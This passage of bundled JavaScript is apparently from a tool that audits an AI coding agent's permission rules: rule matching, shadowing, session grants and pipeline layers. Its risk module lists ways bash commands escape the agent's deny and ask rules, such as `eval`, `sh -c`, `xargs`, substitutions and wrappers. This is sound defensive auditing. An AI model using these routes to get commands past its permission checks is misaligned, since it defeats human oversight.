*   `subject-glob` for the rest (Glob/Grep patterns, skills).
*/
function kindOf(tool, args, bare) {
	if (bare || args === "") {
		if (tool.startsWith("mcp__")) return {
			kind: "mcp",
			pattern: ""
		};
		if (NO_ARGUMENT.has(tool)) return {
			kind: "tool",
			pattern: ""
		};
		if (tool === "Bash") return {
			kind: "command-exact",
			pattern: ""
		};
		if (FILE_TOOLS$1.has(tool)) return {
			kind: "path-glob",
			pattern: ""
		};
		return {
			kind: tool === "WebFetch" ? "url-glob" : "subject-glob",
			pattern: ""
		};
	}
	if (args === "*" || args === "**") return {
		kind: "tool",
		pattern: "*"
	};
	if (tool === "Bash") {
		if (args.endsWith(":*")) {
			const prefix = args.slice(0, -2);
			if (!/[*?]/.test(prefix) && !prefix.includes(":")) return {
				kind: "command-prefix",
				pattern: prefix.trim().replace(/\s+/g, " ")
			};
		}
		if (!/[*?]/.test(args)) return {
			kind: "command-exact",
			pattern: args.replace(/^([^\s:]+):/, "$1 ")
		};
		return {
			kind: "command-glob",
			pattern: args
		};
	}
	if (tool.startsWith("mcp__")) return {
		kind: "mcp",
		pattern: args
	};
	if (FILE_TOOLS$1.has(tool)) return {
		kind: "path-glob",
		pattern: args
	};
	if (tool === "WebFetch") return args.startsWith("domain:") ? {
		kind: "domain",
		pattern: args.slice(7)
	} : {
		kind: "url-glob",
		pattern: args
	};
	return {
		kind: "subject-glob",
		pattern: args
	};
}
/** Entries with the same key match the same calls: the tool compared exactly, `*` and `**` both everything, a bare name the same as `Tool()`. */
function keyOf(tool, args) {
	return `${tool}(${args === "**" ? "*" : args})`;
}
/**
* Why san's own matcher never satisfies a consulted entry, in san's terms
* (`parseRule`, `MatchesToolPattern`, `matchGlob` in
* internal/setting/permission.go), or undefined:
* - a tool name san does not have (names are compared exactly);
* - a bare name on a tool whose calls carry an argument (it matches only an
*   empty one);
* - a multi-word Bash prefix before `:*`: san's forms are `name:args` and
*   `name args`, which `git push:*` never matches (whale-perm follows the
*   seed's word-prefix reading, divergence 2, so its traces still match it);
* - a relative file pattern: san compares it with the absolute path the tool
*   receives.
* A malformed entry is the schema problem's, not this.
*/
function neverMatches(r) {
	if ("error" in require_rule_spec.parseRuleSpec(r.text)) return void 0;
	if (!KNOWN_TOOLS.includes(r.tool) && !/^mcp__[^*?]+$/.test(r.tool)) {
		const near = KNOWN_TOOLS.find((t) => t.toLowerCase() === r.tool.trim().toLowerCase());
		return `san has no tool named ${JSON.stringify(r.tool)}${near ? ` (tool names are compared exactly: ${near})` : ""}`;
	}
	if (r.bare) return NO_ARGUMENT.has(r.tool) ? void 0 : `a bare tool name matches only a ${r.tool} call with an empty argument in san; write ${r.tool}(*) for the whole tool`;
	if (r.tool === "Bash" && /^\S+ [^:]*:\*$/.test(r.args)) {
		const [name, ...rest] = r.args.slice(0, -2).split(/\s+/);
		return `san normalises a command to name:args, so a multi-word prefix before ':*' never matches; write Bash(${name}:${rest.join(" ")}*) for san (the seed reads it as a word prefix, and whale-perm follows the seed)`;
	}
	if (FILE_TOOLS$1.has(r.tool) && r.args !== "" && !r.args.startsWith("/") && !r.args.startsWith("*")) return `san compares the pattern with the absolute path the tool receives; ${JSON.stringify(r.args)} is not resolved against the workspace or the home directory, so it never matches`;
}
function build$1(stack) {
	const records = [];
	const byId = /* @__PURE__ */ new Map();
	const idOf = /* @__PURE__ */ new Map();
	const repeats = /* @__PURE__ */ new Map();
	const positions = /* @__PURE__ */ new Map();
	const firsts = /* @__PURE__ */ new Map();
	const repeated = stack.rules.some((r) => r.duplicateOf);
	for (const r of stack.rules) {
		const slot = `${r.origin}#${r.action}`;
		const n = (positions.get(slot) ?? 0) + 1;
		positions.set(slot, n);
		const id = `${slot}.${n}`;
		const same = repeated ? `${r.action}\u0000${r.text}` : "";
		const original = r.duplicateOf ? firsts.get(same) : void 0;
		if (!r.duplicateOf) {
			if (repeated) firsts.set(same, r);
		} else if (original) {
			const l = repeats.get(original);
			if (l) l.push(r);
			else repeats.set(original, [r]);
		}
		const { kind, pattern } = kindOf(r.tool, r.args, r.bare);
		const key = subjectKey(r.tool);
		const never = r.duplicateOf ? void 0 : neverMatches(r);
		const record = {
			id,
			source: r.source,
			action: r.action,
			kind,
			tool: r.tool,
			pattern,
			text: r.text,
			key: keyOf(r.tool, r.args),
			layer: "settings-rules",
			scope: scopeOf(r.origin),
			call: key ? {
				tool: r.tool,
				key
			} : { tool: r.tool }
		};
		if (never) record.never = never;
		if (r.duplicateOf) record.inert = `repeats ${r.action} ${r.text}${original ? ` (${original.origin})` : ""}: san merges the lists as a union and keeps only the first occurrence`;
		records.push(record);
		byId.set(id, original ? {
			kind: "settings",
			rule: r,
			original
		} : {
			kind: "settings",
			rule: r
		});
		idOf.set(r, id);
	}
	stack.sessionRules.forEach((r, i) => {
		const id = `--session-rule#${i + 1}`;
		const { kind, pattern } = r.wholeTool ? {
			kind: "tool",
			pattern: "*"
		} : kindOf(r.tool, r.args, false);
		const key = subjectKey(r.tool);
		records.push({
			id,
			source: null,
			from: "--session-rule",
			action: "allow",
			kind,
			tool: r.tool,
			pattern,
			text: r.text,
			key: keyOf(r.tool, r.wholeTool ? "*" : r.args),
			layer: "session-permissions",
			scope: "session",
			call: key ? {
				tool: r.tool,
				key
			} : { tool: r.tool }
		});
		byId.set(id, {
			kind: "session",
			rule: r
		});
		idOf.set(r, id);
	});
	const position = /* @__PURE__ */ new Map();
	records.forEach((r, i) => position.set(r.id, i));
	return {
		records,
		byId,
		idOf,
		position,
		repeats
	};
}

// src/engines/san/matches.ts
/** Index of a command's row in `Trace.segments` (the commands san reads), when the call has more than one. */
function segmentOf(s) {
	const shell = s.shell;
	const read = new Set((s.reading?.commands ?? []).map((c) => c.segment));
	const rows = shell ? shell.segments.filter((seg) => read.has(seg)) : [];
	if (rows.length < 2) return () => void 0;
	const at = new Map(rows.map((seg, i) => [seg, i]));
	return (c) => c?.segment ? at.get(c.segment) : void 0;
}
function at(rule, segment) {
	return segment === void 0 ? { rule } : {
		rule,
		segment
	};
}
function sanMatches(s, out) {
	const table = ruleTable(s.stack);
	const id = (r) => table.idOf.get(r);
	const seg = segmentOf(s);
	const list = [];
	const push = (r, layer, m, segment) => {
		const by = m.by === void 0 || m.by === id(r) ? {} : { by: m.by };
		list.push({
			rule: id(r),
			layer,
			effect: m.effect,
			why: m.why,
			...by,
			...segment === void 0 ? {} : { segment }
		});
	};
	/** How a layer's selected rule fared against the call's decision. */
	const fate = (r, action, won) => {
		if (out.decidedBy.rule === id(r)) return {
			effect: "decided",
			why: won
		};
		const by = out.decidedBy.rule !== void 0 ? { by: out.decidedBy.rule } : {};
		return {
			effect: "overridden",
			why: `${out.decidedBy.layer} decides ${out.decision} instead of its ${action}: ${out.decidedBy.reason}`,
			...by
		};
	};
	const bash = s.tool === "Bash" && s.reading !== void 0;
	const denies = bash ? bashAll(effectiveRules(s.stack, "deny"), s.reading).map((h) => at(h.rule, seg(h.match.command))) : subjectAll(effectiveRules(s.stack, "deny"), s.tool, s.call.input).map((rule) => ({ rule }));
	const asks = bash ? bashAll(effectiveRules(s.stack, "ask"), s.reading).map((h) => at(h.rule, seg(h.match.command))) : subjectAll(effectiveRules(s.stack, "ask"), s.tool, s.call.input).map((rule) => ({ rule }));
	const allowRules = effectiveRules(s.stack, "allow");
	const cover = bash ? bashCovers(allowRules, s.reading) : void 0;
	const units = cover?.units ?? [];
	/** Per unit, the first allow (in order) that covers it. */
	const firstPerUnit = units.map(() => void 0);
	const allows = [];
	if (cover) {
		const order = (r) => table.position.get(id(r));
		for (const [rule, us] of [...cover.covers].sort((a, b) => order(a[0]) - order(b[0]))) {
			for (const u of us) firstPerUnit[u] ??= rule;
			allows.push({
				...at(rule, us.length === 1 ? seg(units[us[0]].command) : void 0),
				units: us
			});
		}
	} else for (const rule of subjectAll(allowRules, s.tool, s.call.input)) allows.push({ rule });
	const covered = cover ? units.length > 0 && firstPerUnit.every((r) => r !== void 0) : allows.length > 0;
	const winner = s.picked.settings;
	/** How a deny blocks, for a Bash call (any command san reads) or another tool. */
	const denyFirst = (before) => bash ? `san checks deny rules first: a deny for any command san reads blocks the call before ${before} rules are read` : `san checks deny rules first, before ${before} rules`;
	for (const h of denies) if (h.rule === winner) push(h.rule, "settings-rules", fate(h.rule, "deny", bash ? "deny rules are checked first: a deny for any command san reads blocks the call" : "deny rules are checked first"), h.segment);
	else push(h.rule, "settings-rules", {
		effect: "shadowed",
		why: "an earlier deny rule matches too, and san stops at the first",
		by: id(denies[0].rule)
	}, h.segment);
	for (const h of asks) if (h.rule === winner) push(h.rule, "settings-rules", fate(h.rule, "ask", "no deny rule matches, and ask rules are checked before allow rules"), h.segment);
	else if (denies.length > 0) push(h.rule, "settings-rules", {
		effect: "overridden",
		why: denyFirst("ask"),
		by: id(denies[0].rule)
	}, h.segment);
	else push(h.rule, "settings-rules", {
		effect: "shadowed",
		why: "an earlier ask rule matches too, and san stops at the first",
		by: id(asks[0].rule)
	}, h.segment);
	for (const h of allows) if (denies.length > 0) push(h.rule, "settings-rules", {
		effect: "overridden",
		why: denyFirst("allow"),
		by: id(denies[0].rule)
	}, h.segment);
	else if (asks.length > 0) push(h.rule, "settings-rules", {
		effect: "shadowed",
		why: "ask rules are checked before allow rules",
		by: id(asks[0].rule)
	}, h.segment);
	else if (!covered) {
		const missing = units.filter((_, i) => firstPerUnit[i] === void 0).map((u) => `'${u.text}'`);
		push(h.rule, "settings-rules", {
			effect: "not-applicable",
			why: `it covers part of the command but not ${missing.join(", ")}: san allows only when every command it reads is covered`
		}, h.segment);
	} else if (h.rule === winner) push(h.rule, "settings-rules", fate(h.rule, "allow", units.length > 1 ? "the allow rules cover every command san reads; it is the first" : "no deny or ask rule matches"), h.segment);
	else if (h.units?.some((u) => firstPerUnit[u] === h.rule)) {
		const mine = h.units.filter((u) => firstPerUnit[u] === h.rule).map((u) => `'${units[u].text}'`);
		const f = fate(winner, "allow", "");
		push(h.rule, "settings-rules", f.effect === "decided" ? {
			effect: "decided",
			why: `it covers ${mine.join(", ")}, one of the commands the allow needs (with ${winner.text})`
		} : f, h.segment);
	} else {
		const before = h.units?.map((u) => firstPerUnit[u]).find((r) => r !== void 0 && r !== h.rule) ?? allows[0].rule;
		push(h.rule, "settings-rules", {
			effect: "shadowed",
			why: "an earlier allow rule covers the same command, and san takes the first",
			by: id(before)
		}, h.segment);
	}
	for (const m of [...list]) {
		const entry = table.byId.get(m.rule);
		if (entry?.kind !== "settings") continue;
		for (const r of table.repeats.get(entry.rule) ?? []) push(r, "settings-rules", {
			effect: "not-applicable",
			why: `it repeats ${r.text} (${entry.rule.origin}): san merges the lists as a union and keeps only the first`,
			by: m.rule
		}, m.segment);
	}
	if (s.stack.sessionRules.length > 0) {
		const whole = s.stack.sessionRules.filter((r) => r.wholeTool && r.tool === s.tool);
		const patterns = s.stack.sessionRules.filter((r) => !r.wholeTool);
		let granted;
		let all = true;
		if (bash) {
			const c = bashCovers(patterns, s.reading);
			granted = [...c.covers.keys()].map((rule) => ({ rule }));
			all = c.units.length > 0 && c.units.every((_, i) => [...c.covers.values()].some((us) => us.includes(i)));
		} else granted = subjectAll(patterns, s.tool, s.call.input).map((rule) => ({ rule }));
		const hits = [...whole.map((rule) => ({ rule })), ...granted].sort((a, b) => table.position.get(id(a.rule)) - table.position.get(id(b.rule)));
		const chosen = s.picked.session;
		const settled = s.decided && s.decided.layer === "settings-rules" && !chosen;
		for (const h of hits) if (settled) push(h.rule, "session-permissions", {
			effect: "overridden",
			why: `not reached: the settings rules already decided ${s.decided.decision}`,
			...out.decidedBy.rule ? { by: out.decidedBy.rule } : {}
		});
		else if (h.rule === chosen) push(h.rule, "session-permissions", fate(h.rule, "allow", "a session permission granted for this run"));
		else if (chosen) push(h.rule, "session-permissions", {
			effect: "shadowed",
			why: "an earlier session permission matches too, and san takes the first",
			by: id(chosen)
		});
		else if (!all && !h.rule.wholeTool) push(h.rule, "session-permissions", {
			effect: "not-applicable",
			why: "it covers part of the command only: a session permission must cover every command san reads"
		});
		else push(h.rule, "session-permissions", {
			effect: "overridden",
			why: `not reached: ${out.decidedBy.layer} decided ${out.decision}`,
			...out.decidedBy.rule ? { by: out.decidedBy.rule } : {}
		});
	}
	const rank = (m) => m.rule === out.decidedBy.rule ? 0 : m.effect === "decided" ? 1 : 2;
	return list.map((m, i) => ({
		m,
		i
	})).sort((a, b) => rank(a.m) - rank(b.m) || a.i - b.i).map(({ m }) => m);
}

// src/engines/san/risks.ts
/**
* Where what bash would run (whale-perm's tree-sitter analysis, the ground
* truth) differs from what san reads (match/bash.ts). Risks never change the
* decision (docs/contract.md, "Faithful decisions"):
*
* - hidden-code: a part nobody can read before it runs (code piped into a
*   shell, `eval "$x"`, a computed command name), with the deny and ask
*   rules that could not stop it;
* - agent-misses: a command bash runs that san's walker does not reach
*   (inside `sh -c`, `eval`, `xargs`, `find -exec`, `$(…)`, backticks,
*   `<(…)`, or behind a wrapper other than san's five) and that a deny or
*   ask rule would have caught;
* - agent-overmatches: a deny or ask rule san matches on a form of the text
*   (its raw `&&`/`;` split) although bash runs no such command;
* - unchecked-inline-code: the call is allowed while it carries code san
*   never looks at (`sh -c '…'`, `python -c '…'`, `eval`).
*/
function label(r) {
	return {
		label: `${r.action} rule \`${r.text}\``,
		source: r.source
	};
}
/** A ground-truth word list as one command san would read (`name args` and `name:args`, no raw split). */
function unit(words) {
	const command = {
		name: require_shell.programName(words[0] ?? ""),
		args: words.slice(1),
		inPipe: false,
		redirects: []
	};
	const plain = plainForm(command);
	return {
		forms: [plain, normalized(command)],
		command,
		plain,
		text: words.join(" ")
	};
}
function sameWords(a, b) {
	if (a.length !== b.length) return false;
	for (let i = 0; i < a.length; i++) if (a[i] !== b[i]) return false;
	return true;
}
/** The commands `catches` reads a segment as: its argv and its raw argv (once when they are the same words). */
function segmentUnits(seg) {
	const out = [];
	if (seg.argv.length > 0) out.push(unit(seg.argv));
	if (seg.rawArgv.length > 0 && !sameWords(seg.argv, seg.rawArgv)) out.push(unit(seg.rawArgv));
	return out;
}
/** Would the rule catch this command bash runs, if san read it as a command of its own? */
function catchesUnits(r, units) {
	return units.some((u) => coversUnit(r.args, u) !== void 0);
}
function catches(r, seg) {
	return catchesUnits(r, segmentUnits(seg));
}
/** The strings `catches` tries a rule on for one segment's units (for the rule index). */
function catchQueries(units) {
	return units.flatMap((u) => u.forms);
}
const isGuard = (r) => r.tool === "Bash" && !r.bare;
/** Could a rule match what an opaque part runs? Only a computed command name with known arguments narrows it. */
function couldMatch(r, o) {
	if (r.args === "") return false;
	if (o.reason === "dynamic-command" && o.knownArgs) {
		const w = /^([^\s:*?]+)/.exec(r.args)?.[1];
		if (w === void 0) return true;
		return coversUnit(r.args, unit([w, ...o.knownArgs])) !== void 0;
	}
	return true;
}
function unseenBecause(seg) {
	if (seg.nesting.includes("payload")) return "it runs as the payload of another command (sh -c, eval, xargs, find -exec …), which san reads as that command's words";
	if (seg.nesting.includes("command-substitution") || seg.nesting.includes("backticks")) return "it runs inside a command substitution, which san prints as `$(...)` and does not walk";
	if (seg.nesting.includes("process-substitution")) return "it runs inside a process substitution, which san does not walk";
}
/** Inline code an allow admits with any body (piped code is already a hidden-code risk of its own). */
const INLINE_CODE = [
	"interpreter-payload",
	"eval-dynamic",
	"dynamic-payload"
];
/** Each segment's position, found through a map made once per analysis (a risk per segment must not scan them all). */
const positions = /* @__PURE__ */ new WeakMap();
function segmentIndex(shell, seg) {
	let m = positions.get(shell);
	if (!m) {
		m = /* @__PURE__ */ new Map();
		for (let i = shell.segments.length - 1; i >= 0; i--) m.set(shell.segments[i], i);
		positions.set(shell, m);
	}
	return m.get(seg);
}
function sanRisks(s, trace) {
	const shell = s.shell;
	const reading = s.reading;
	if (s.tool !== "Bash" || !shell || !reading) return [];
	const deny = effectiveRules(s.stack, "deny");
	const ask = effectiveRules(s.stack, "ask");
	const guardsFor = (queries) => [...ruleCandidates(deny, "Bash", queries), ...ruleCandidates(ask, "Bash", queries)].filter(isGuard);
	const out = [];
	if (shell.opaque.length > 0) {
		const guards = [...deny, ...ask].filter(isGuard);
		for (const o of shell.opaque) out.push(require_faithful.hiddenCodeRisk(shell, o, "san", guards.filter((r) => couldMatch(r, o)).map(label)));
	}
	const sanMatched = new Set(guardsFor(readingQueries(reading)).filter((r) => matchAny(r.args, reading) !== void 0));
	const seenSegments = new Set((reading.commands ?? []).map((c) => c.segment));
	const byCommand = /* @__PURE__ */ new Map();
	for (const c of reading.commands ?? []) if (!byCommand.has(c.segment)) byCommand.set(c.segment, c);
	const anyGuard = deny.some(isGuard) || ask.some(isGuard);
	for (const seg of anyGuard ? shell.segments : []) {
		const units = segmentUnits(seg);
		const missed = guardsFor(catchQueries(units)).filter((r) => !sanMatched.has(r) && catchesUnits(r, units));
		if (missed.length === 0) continue;
		const own = byCommand.get(seg);
		const why = unseenBecause(seg) ?? (seg.wrappers.length > 0 ? `san reads it as \`${seg.rawArgv[0]}\` (it strips only timeout, time, nice, nohup and stdbuf)` : own && own.name !== require_shell.programName(seg.rawArgv[0] ?? "") ? `san reads the command name as written, \`${own.name}\`` : seenSegments.has(seg) ? "san normalises it to name:args, which the rule does not match" : "san does not read it as a command");
		const rules = missed.map((r) => `${r.action} rule \`${r.text}\``).join(", ");
		out.push(require_faithful.risk("agent-misses", `bash runs '${seg.text}', but san does not match it: ${why}; ${rules} would not stop it`, {
			segment: segmentIndex(shell, seg),
			evades: missed.map((r) => r.source)
		}));
	}
	for (const r of sanMatched) {
		const m = matchAny(r.args, reading);
		if (m.seedOnly) continue;
		if (shell.segments.some((seg) => catches(r, seg))) continue;
		if (shell.segments.length === 0 && matchGlob(reading.command, r.args)) continue;
		out.push(require_faithful.risk("agent-overmatches", `san matches ${r.action} rule \`${r.text}\` on '${m.form}', a piece of the text it splits at && and ;, but bash runs no command that rule names`, { evades: [] }));
	}
	if (trace.decision === "allow") {
		const carriers = /* @__PURE__ */ new Set();
		for (const seg of shell.segments) {
			if (!seg.nesting.includes("payload")) continue;
			const outer = shell.segments.find((o) => o !== seg && o.range[0] <= seg.range[0] && o.range[1] >= seg.range[1] && !o.nesting.includes("payload"));
			if (outer) carriers.add(outer);
		}
		for (const c of carriers) out.push(require_faithful.risk("unchecked-inline-code", `'${c.text}' runs code san never reads (${trace.decidedBy.layer}: ${trace.decidedBy.reason}); whatever the code says runs without a prompt`, { segment: segmentIndex(shell, c) }));
		for (const o of shell.opaque) {
			if (!INLINE_CODE.includes(o.reason)) continue;
			out.push(require_faithful.risk("unchecked-inline-code", `${o.detail.replace(/\.\s*$/, "")}; the call is allowed (${trace.decidedBy.layer}) without anyone reading that code`));
		}
	}
	return require_faithful.uniqueRisks(out);
}

// src/engines/san/call-view.ts
const PATH_KEYS = [
	"file_path",
	"path",
	"notebook_path"
];
/**
* san's file tools take absolute paths: a relative --path is resolved against the workspace, `~` against the home directory.
* A copy, unless `share` is set and nothing needs changing: then the input itself (for a view only read, never handed out).
*/
function preparedInput(tool, input, stack, share = false) {
	if (share && !needsPreparing(tool, input)) return input;
	const out = { ...input };
	if (tool === "Bash") return out;
	if ((tool === "Read" || tool === "Write" || tool === "Edit" || tool === "NotebookEdit") && typeof out.path === "string" && out.file_path === void 0) {
		out.file_path = out.path;
		delete out.path;
	}
	for (const k of PATH_KEYS) {
		const v = out[k];
		if (typeof v === "string" && v !== "" && !v.startsWith("/")) out[k] = absolutePath(v, stack.workspace, stack.home);
	}
	return out;
}
/** Whether `preparedInput` would change anything in the input (the same tests it makes). */
function needsPreparing(tool, input) {
	if (tool === "Bash") return false;
	if ((tool === "Read" || tool === "Write" || tool === "Edit" || tool === "NotebookEdit") && typeof input.path === "string" && input.file_path === void 0) return true;
	for (const k of PATH_KEYS) {
		const v = input[k];
		if (typeof v === "string" && v !== "" && !v.startsWith("/")) return true;
	}
	return false;
}
/** Recent analyses by command text: `diff` evaluates each probe on two stacks, lint and batch repeat commands. Analyses are never changed once made. */
const recent = /* @__PURE__ */ new Map();
const RECENT = 512;
const CACHED_LENGTH = 4096;
function analyzed(command) {
	if (command.length > CACHED_LENGTH) return require_shell.analyzeShell(command);
	const hit = recent.get(command);
	if (hit) return hit;
	const a = require_shell.analyzeShell(command);
	if (recent.size >= RECENT) recent.delete(recent.keys().next().value);
	recent.set(command, a);
	return a;
}
const byInput = /* @__PURE__ */ new WeakMap();
function knownFor(input, command) {
	let k = byInput.get(input);
	if (!k || k.command !== command) byInput.set(input, k = { command });
	return k;
}
function analyzedFor(input, command) {
	const k = knownFor(input, command);
	return k.shell ??= analyzed(command);
}
function plainFor(input, command) {
	const k = knownFor(input, command);
	if (k.plain === void 0) k.plain = plainReading(command, require_shell.WRAPPERS) ?? null;
	return k.plain ?? void 0;
}
const readings = /* @__PURE__ */ new WeakMap();
/** san's reading of an analysis, made once per analysis (neither ever changes). */
function readingOf(shell) {
	let r = readings.get(shell);
	if (!r) readings.set(shell, r = sanReading(shell));
	return r;
}
/** The reading over the analysis, with its segments (made now for a command of plain words). */
function analysedReading(view) {
	const shell = view.shell;
	return shell ? readingOf(shell) : void 0;
}
/**
* The call as san sees it; `shell` replaces the parse of the command (one
* segment of a larger call). A command of plain words is read without the
* analysis unless `analyse` is set (the reference the plain reading is
* tested against): nothing the decision reads needs it. With `shareInput`
* (a view only matched against, never handed out) the call's own input is
* kept when it needs no change.
*/
function callView(stack, call, shell, analyse = false, shareInput = false) {
	const tool = canonicalTool(call.tool) ?? call.tool;
	const input = preparedInput(tool, call.input, stack, shareInput);
	const command = input.command;
	if (shell) return {
		tool,
		input,
		shell,
		reading: readingOf(shell),
		nested: () => nestedSubstitutionIn(shell)
	};
	if (tool !== "Bash" || typeof command !== "string") return {
		tool,
		input,
		shell: void 0,
		reading: void 0,
		nested: void 0
	};
	const source = call.input;
	const plain = analyse ? void 0 : plainFor(source, command);
	if (!plain) {
		const sh = analyzedFor(source, command);
		return {
			tool,
			input,
			shell: sh,
			reading: readingOf(sh),
			nested: () => nestedSubstitutionIn(sh)
		};
	}
	return new PlainWordsView(tool, input, plain, source, command);
}
/** plain words hold no `$`, backquote or backslash: no substitution at all */
const noSubstitution = () => false;
/**
* The view of a command of plain words: its analysis made when first read.
* A class, for the getter: an object literal with a getter is made with
* slow (dictionary) properties, a few hundred bytes each, and matching
* keeps a view per call for the run (rule-match.ts `viewOf`).
*/
var PlainWordsView = class {
	tool;
	input;
	reading;
	source;
	command;
	nested = noSubstitution;
	constructor(tool, input, reading, source, command) {
		this.tool = tool;
		this.input = input;
		this.reading = reading;
		this.source = source;
		this.command = command;
	}
	get shell() {
		return analyzedFor(this.source, this.command);
	}
};

// src/engines/san/warnings.ts
const FILE_TOOLS = /* @__PURE__ */ new Set([
	"Read",
	"Write",
	"Edit",
	"NotebookEdit"
]);
/** The Claude-compatible reading of a path pattern: `./x` and `/x` under the workspace, `~/x` under home, `//x` absolute. */
function compatPattern(args, workspace, home) {
	if (args.startsWith("//")) return args.slice(1);
	if (args.startsWith("~/")) return `${home.replace(/\/+$/, "")}/${args.slice(2)}`;
	if (args.startsWith("./")) return `${workspace.replace(/\/+$/, "")}/${args.slice(2)}`;
	if (args.startsWith("/")) return void 0;
	if (args.startsWith("*")) return void 0;
	if (args === "") return void 0;
	return `${workspace.replace(/\/+$/, "")}/${args}`;
}
function ruleWarnings(s) {
	const out = [];
	const lists = [effectiveRules(s.stack, "deny"), effectiveRules(s.stack, "ask")];
	for (const r of lists.flatMap((l) => ruleCandidates(l, s.tool, [""]))) {
		if (r.tool !== s.tool || !r.bare) continue;
		out.push(`${r.action} rule ${r.text} (${r.origin}) names the whole tool, but san matches a bare name only against a call with an empty argument: it does not apply to this call (write ${r.text}(*) for the whole tool)`);
	}
	if (FILE_TOOLS.has(s.tool)) {
		const path = filePathOf(s.tool, s.call.input);
		if (path !== void 0) for (const r of lists.flatMap((l) => compatCandidates(l, s.tool, path, s.stack.workspace, s.stack.home))) {
			if (r.tool !== s.tool || r.bare) continue;
			const compat = compatPattern(r.args, s.stack.workspace, s.stack.home);
			if (compat === void 0 || matchGlob(path, r.args) || !matchGlob(path, compat)) continue;
			out.push(`${r.action} rule ${r.text} (${r.origin}) reads like ${compat}, but san compares the pattern with the path as the tool receives it (${path}), so it does not apply`);
		}
	}
	return out;
}
/**
* The rules of a file tool whose Claude-compatible reading could match
* `path` (by the lead of that reading), among others: a superset, in list
* order, of the rules of `tool` that reading matches.
*/
function compatCandidates(rules, tool, path, workspace, home) {
	if (rules.length <= 8) return rules;
	const leads = (r) => {
		const c = r.bare || !FILE_TOOLS.has(r.tool) ? void 0 : compatPattern(r.args, workspace, home);
		return c === void 0 ? [] : [globLead(c)];
	};
	return indexOf(rules, `compat\u0000${workspace}\u0000${home}`, leads).candidates(tool, [path]);
}
function divergenceWarnings(s, trace, code) {
	const out = ruleWarnings(s);
	if (trace.decision === "allow" && s.shell && s.shell.writes.length > 0) out.push(`the command also writes ${s.shell.writes.map((w) => w.path ?? "(a computed path)").join(", ")}; san's Bash rules do not look at what a command writes`);
	if (code && code.decision !== trace.decision) {
		const direction = rank(code.decision) < rank(trace.decision) ? "weaker" : "stricter";
		const where = s.subagent ? "san's subagent gate (internal/subagent/executor.go, which does not read settings rules)" : "san's code (the order of HasPermissionToUseTool in internal/setting/permission.go, with its own matcher)";
		out.push(`${where} would ${verb(code.decision)} this call (${code.reason}); whale-perm follows the seed's order, which gives ${trace.decision}: the agent as coded is ${direction} here`);
	}
	if (s.floor && trace.decidedBy.layer !== "prompt" && trace.decision === "ask" && !s.subagent && s.mode.value === "bypassPermissions") out.push(`bypassPermissions does not lift the bypass-immune floor (${s.floor.reason}): the seed does not mention it; whale-perm follows san's code here`);
	return out;
}
function rank(d) {
	return d === "allow" ? 0 : d === "ask" ? 1 : 2;
}
function verb(d) {
	return d === "allow" ? "allow" : d === "ask" ? "ask about" : "deny";
}

// src/engines/san/pipeline.ts
const PIPELINE = [
	settingsRulesLayer,
	sessionPermissionsLayer,
	hooksLayer,
	modePolicyLayer,
	defaultLayer,
	promptLayer
];
/** A --mode the engine does not know: the caller's mistake. */
var BadCallContext = class extends require_usage_error.UsageError {};
/**
* The stack's `resolve`, asked once per path in one evaluation: the call's
* floor, its rewritten pass and its segments' own evaluations ask about the
* same redirect targets (san resolves them at each check, and one
* evaluation is one check; across calls the file system is read again).
*/
function resolveOnce(stack) {
	const read = stack.resolve;
	if (!read) return void 0;
	let known;
	return (path) => {
		known ??= /* @__PURE__ */ new Map();
		if (known.has(path)) return known.get(path);
		const v = read(path);
		known.set(path, v);
		return v;
	};
}
function effectiveMode(stack, opts) {
	if (opts.mode === void 0) return stack.defaultMode;
	const m = modeOf(opts.mode);
	if (!m) throw new BadCallContext(`--mode ${opts.mode}: expected ${MODES.join(", ")}`);
	return {
		value: m,
		origin: "command line",
		source: null
	};
}
/**
* The state's `shell`, made when first read from the call's view (a command
* of plain words is decided without it, call-view.ts): a getter on the
* states' shared prototype, reading the state's `view`. Not in the state's
* literal: an object literal with a getter is made with slow (dictionary)
* properties, and every layer reads the state's fields.
*/
const SHELL_ON_READ = { get shell() {
	return this.view.shell;
} };
function newState(stack, call, opts, how) {
	const mode = effectiveMode(stack, opts);
	const view = callView(stack, call, how.shell, how.analyse);
	const { tool, input, reading } = view;
	const command = input.command;
	const resolve = "resolve" in how ? how.resolve : stack.resolve;
	const s = {
		__proto__: SHELL_ON_READ,
		view,
		stack,
		opts,
		call: {
			tool,
			input
		},
		tool,
		reading,
		mode,
		subagent: opts.subagent === true,
		nonInteractive: opts.headless === true || opts.background === true,
		resolve,
		floor: floorReason(tool, input, reading, view.nested, {
			workspace: stack.workspace,
			home: stack.home,
			mode: mode.value,
			resolve
		}),
		planWrite: false,
		picked: {},
		asks: [],
		unresolved: [],
		hooks: [],
		hookCache: how.hookCache ?? [],
		segments: [],
		risks: [],
		unknowns: [],
		warnings: how.shell ? [] : [...stack.warnings]
	};
	s.planWrite = mode.value === "plan" && isWriteClass(s);
	if (!how.shell) {
		if (canonicalTool(call.tool) === void 0) s.warnings.push(`san has no tool named ${JSON.stringify(call.tool)}; it is evaluated as a tool of no particular class`);
		else if (tool !== call.tool) s.warnings.push(`tool ${JSON.stringify(call.tool)} is san's ${tool}`);
		if (tool === "Bash" && typeof command !== "string") s.warnings.push("a Bash call without a command: no rule argument to match");
		if (mode.value === "plan" && mode.origin !== "command line" && mode.origin !== "default") s.warnings.push(`defaultMode "plan" (${mode.origin}): san's code reads defaultMode with OperationModeFromString, which does not know "plan" and would start in default mode; whale-perm follows the seed, which lists plan as a mode`);
		if (mode.value === "bypassPermissions" && mode.origin === "command line" && stack.allowBypass.value !== true && !s.subagent) s.warnings.push(`allowBypass is ${stack.allowBypass.value === false ? `false (${stack.allowBypass.origin})` : "not set"}: san's mode cycle (Shift+Tab) never reaches bypassPermissions and a bypass defaultMode starts in default mode, so a foreground session cannot be in this mode; the call is evaluated in bypassPermissions as asked`);
	}
	return s;
}
function runPipeline(stack, call, opts, how) {
	const s = newState(stack, call, opts, how);
	const layerTraces = require_faithful.runLayers(PIPELINE, s, (layer) => {
		if (s.rewrite) return "not reached: the rewritten input is evaluated instead";
		if (how.skipHooks && layer.id === "hooks") return "hooks run once, for the whole call";
		if (s.decided && layer.id !== "hooks" && layer.id !== "prompt") return `not reached: ${s.decided.layer} already decided (${s.decided.decision})`;
	});
	for (const t of layerTraces) if (t.sources.some((x) => !(x.line > 0))) t.sources = t.sources.filter((x) => x.line > 0);
	return Object.assign(s, { layerTraces });
}
/** The id of the rule whose verdict is the decision: the rule layer that decided selected it, and its action is the decision (a vetoed allow decides nothing). */
function decidingRule(s) {
	const f = s.final;
